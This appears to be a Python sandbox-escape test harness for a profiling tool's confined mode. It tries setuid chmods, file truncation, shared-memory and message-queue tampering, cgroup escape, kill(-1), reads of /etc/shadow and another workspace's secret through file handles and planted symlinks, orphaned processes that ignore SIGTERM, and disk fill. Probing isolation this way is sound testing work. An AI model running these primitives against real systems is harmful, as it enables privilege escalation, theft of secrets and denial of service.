"""Confined side of the independent probe (issue 38): runs INSIDE profile_command as
`python atk2.py NAME ...` (cwd: the workspace's sub/, a directory the command may write).
Each attack records what happened in results/NAME.json under its working directory."""
import ctypes, json, os, signal, socket, stat, subprocess, sys, time

CFG = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "probe_cfg.json")))
V = CFG["victim"]
OUT = {}
libc = ctypes.CDLL(None, use_errno=True)


def rec(key, fn):
    try:
        OUT[key] = "OK: " + repr(fn())[:300]
    except BaseException as e:  # noqa: BLE001
        OUT[key] = "ERR: " + type(e).__name__ + ": " + str(e)[:200]


def cerr(rc):
    if rc == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return rc


def a_meta():
    """Metadata writes outside (Landlock has no right for chmod/utime/xattr) and truncation."""
    rec("chmod_000_victim_secret", lambda: os.chmod(V + "/secret.txt", 0o000))
    rec("chmod_4755_victim_tool", lambda: os.chmod(V + "/tool", 0o4755))
    rec("utime_victim_secret", lambda: os.utime(V + "/secret.txt", (0, 0)))
    rec("setxattr_user_victim", lambda: os.setxattr(V + "/secret.txt", "user.kprobe", b"pwned"))
    # a system file's mode set to what it already is: allowed means a setuid bit could be added too
    rec("chmod_noop_usr_bin_true", lambda: os.chmod("/usr/bin/true", stat.S_IMODE(os.stat("/usr/bin/true").st_mode)))
    rec("chmod_777_ws2_dir", lambda: os.chmod(CFG["ws2"], 0o777))
    rec("truncate_victim_by_path", lambda: os.truncate(V + "/trunc_me.txt", 0))
    rec("O_RDONLY_O_TRUNC_ws_root_file", lambda: os.close(os.open(CFG["ws"] + "/keep.txt", os.O_RDONLY | os.O_TRUNC)))
    rec("O_RDONLY_O_TRUNC_devlog", lambda: os.close(os.open(CFG["ws"] + "/docs/kernels/x.md", os.O_RDONLY | os.O_TRUNC)))
    rec("chmod_000_ws_out_dir", lambda: os.chmod(CFG["ws"] + "/out", 0o000))
    rec("chmod_000_kprof_cache", lambda: os.chmod(CFG["home"] + "/.cache/kprof-mcp", 0o000))


def a_ipc2():
    """IPC out that Landlock does not cover: SysV shm/msg, POSIX mq; cgroup escape; kill(-1)."""
    def shm():
        ipc = libc
        ipc.shmat.restype = ctypes.c_void_p
        sid = cerr(ipc.shmget(CFG["shm_key"], 0, 0o600))
        addr = ipc.shmat(sid, None, 0)
        if addr in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        ctypes.memmove(addr, b"TAMPERED-BY-SANDBOX", 19)
        return "attached id %d, wrote 19 bytes" % sid

    def msg():
        qid = cerr(libc.msgget(CFG["msg_key"], 0o600))
        buf = ctypes.create_string_buffer(8 + 16)
        ctypes.memmove(buf, (1).to_bytes(8, "little") + b"from-sandbox....", 24)
        cerr(libc.msgsnd(qid, buf, 16, 0o4000))  # IPC_NOWAIT
        return "sent to queue %d" % qid

    def mq():
        libc.mq_open.restype = ctypes.c_int
        fd = cerr(libc.mq_open(b"/" + CFG["mq_name"].encode(), os.O_WRONLY))
        cerr(libc.mq_send(fd, b"from-sandbox", 12, 0))
        return "sent"

    rec("sysv_shm_attach_write_outside_segment", shm)
    rec("sysv_msgq_send_outside_queue", msg)
    rec("posix_mq_send_outside_queue", mq)
    me = str(os.getpid())
    for cg in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
               "/sys/fs/cgroup/unified/cgroup.procs"):
        rec("cgroup_escape_" + cg.split("/")[4], lambda cg=cg: open(cg, "w").write(me))
    OUT["cgroup_now"] = open("/proc/self/cgroup").read()[:400]
    rec("kill_minus1_sig0", lambda: os.kill(-1, 0))
    if os.getuid() != 0:  # only our own user's processes can be hit: the victim sleep and the server
        rec("kill_minus1_SIGTERM", lambda: os.kill(-1, signal.SIGTERM))
    rec("kill_victim_pgid_SIGCONT", lambda: os.killpg(CFG["victim_pid"], signal.SIGCONT))

    def handle():
        class FH(ctypes.Structure):
            _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("f", ctypes.c_ubyte * 128)]
        fh, mnt = FH(), ctypes.c_int()
        fh.bytes = 128
        cerr(libc.name_to_handle_at(-100, (V + "/secret.txt").encode(), ctypes.byref(fh), ctypes.byref(mnt), 0))
        fd = cerr(libc.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.byref(fh), 0))
        return os.read(fd, 64)

    rec("open_by_handle_at_victim_secret", handle)
    rec("open_dev_tty_rw", lambda: os.open("/dev/tty", os.O_RDWR))
    rec("tcp6_connect_loopback", lambda: socket.create_connection(("::1", CFG["tcp6_port"]), timeout=3).close())
    rec("netlink_route_dump_ifaces", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)))
    rec("list_kprof_confined_caches", lambda: os.listdir(CFG["home"] + "/.cache/kprof-mcp/confined"))
    rec("read_etc_shadow_head", lambda: open("/etc/shadow", "rb").read(12))


def a_mkfifo():
    """A FIFO named like a module beneath the working directory (the server hashes every *.py)."""
    os.makedirs("pp", exist_ok=True)
    rec("mkfifo_pp_f_py", lambda: os.mkfifo("pp/f.py"))


def a_mkzero():
    os.makedirs("pz", exist_ok=True)
    rec("symlink_pz_z_py_to_dev_zero", lambda: os.symlink("/dev/zero", "pz/z.py"))


def a_noop():
    pass


def a_cleanup(*names):
    import shutil
    for n in names:
        shutil.rmtree(n, ignore_errors=True)


RANK = r"""
import json, os, sys
out = {"sys_path_head": sys.path[:3], "recorder_loaded": "kprof_mcp.capture.rank_recorder" in sys.modules,
       "ranks_dir": os.environ.get("KPROF_RANKS_DIR"), "hook": os.environ.get("KPROF_RANKS_HOOK"),
       "workspace_sitecustomize_ran": os.environ.get("KPROBE_WS_SITE") == "1"}
json.dump(out, open(sys.argv[1], "w"))
"""


def a_ranks():
    """The multi-rank hook (issue 39): who runs in a started Python process, and can its record be
    sent outside or be a link the main child follows?"""
    OUT["main_env"] = {k: os.environ.get(k) for k in ("KPROF_RANKS_DIR", "KPROF_RANKS_HOOK", "PYTHONPATH")}
    rd, hook = os.environ.get("KPROF_RANKS_DIR", ""), os.environ.get("KPROF_RANKS_HOOK", "")
    # a started process, as a rank would be (the hook's sitecustomize runs at its start-up)
    subprocess.run([sys.executable, "-c", RANK, os.path.abspath("results/rank_child.json")], timeout=60)
    # its record pointed outside: KPROF_RANKS_DIR -> the victim directory
    env = {**os.environ, "KPROF_RANKS_DIR": V}
    p = subprocess.run([sys.executable, "-c", "import time; time.sleep(0.2)"], env=env, timeout=60,
                       capture_output=True, text=True)
    OUT["redirected_rank_stderr"] = p.stderr[-300:]
    # the hook itself rewritten (it lies in the private tmp: the job's own)
    rec("rewrite_hook_sitecustomize", lambda: open(os.path.join(hook, "sitecustomize.py"), "a").write("\n# x\n"))
    # records the main child reads back: a link to another workspace's secret, and a trace link
    if rd:
        rec("plant_record_link", lambda: os.symlink(CFG["ws2"] + "/secret.txt", os.path.join(rd, "999991.json")))
        rec("plant_record_with_trace_link", lambda: (
            os.symlink(CFG["ws2"] + "/secret.txt", os.path.join(rd, "999992.trace.json")),
            json.dump({"pid": 999992, "rank": 0, "role": "rank", "status": "ok", "trace": "../../x/999992.trace.json"},
                      open(os.path.join(rd, "999992.json"), "w"))))


def a_ranks_fifo():
    rd = os.environ.get("KPROF_RANKS_DIR", "")
    rec("mkfifo_record", lambda: os.mkfifo(os.path.join(rd, "999993.json")))


STAY = r"""
import os, signal, sys, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
os.setsid()
t0 = time.time()
while time.time() - t0 < 90:
    time.sleep(0.5)
"""


def _stay_rank(_i):
    import signal as s
    s.signal(s.SIGTERM, s.SIG_IGN)
    os.setsid()
    subprocess.Popen([sys.executable, "-c", STAY], env={**os.environ, "KPROBE_TAG": CFG["tag"]},
                     start_new_session=True)
    time.sleep(90)


def a_ranks_stay():
    """Spawned ranks (multiprocessing spawn, as torch.multiprocessing.spawn does) that ignore SIGTERM,
    leave the session, start their own setsid grandchild; the main process exits at once."""
    import multiprocessing as mp
    os.environ["KPROBE_TAG"] = CFG["tag"]
    ctx = mp.get_context("spawn")
    ps = [ctx.Process(target=_stay_rank, args=(i,), daemon=False) for i in range(2)]
    for p in ps:
        p.start()
    time.sleep(4)
    OUT["started"] = [p.pid for p in ps]
    json.dump(OUT, open("results/ranks_stay.json", "w"))
    os._exit(0)  # no join: the ranks are left to the job's end


def a_fill(mb="300", files="4"):
    """A disk fill bounded by itself: FILES files of MB MiB each in the private tmp, then one in cwd."""
    tmp = os.environ.get("TMPDIR", "/tmp")
    n = 0
    for i in range(int(files)):
        try:
            with open(os.path.join(tmp, f"fill{i}"), "wb") as f:
                for _ in range(int(mb)):
                    f.write(b"\0" * 2**20)
                    n += 1
        except OSError as e:
            OUT["fill_error"] = str(e)
            break
    OUT["written_mib"] = n


if __name__ == "__main__":
    name = sys.argv[1]
    os.makedirs("results", exist_ok=True)
    try:
        globals()["a_" + name](*sys.argv[2:])
    finally:
        OUT["cwd"], OUT["uid"] = os.getcwd(), os.getuid()
        with open(f"results/{name}.json", "w") as f:
            json.dump(OUT, f, indent=1, default=str)
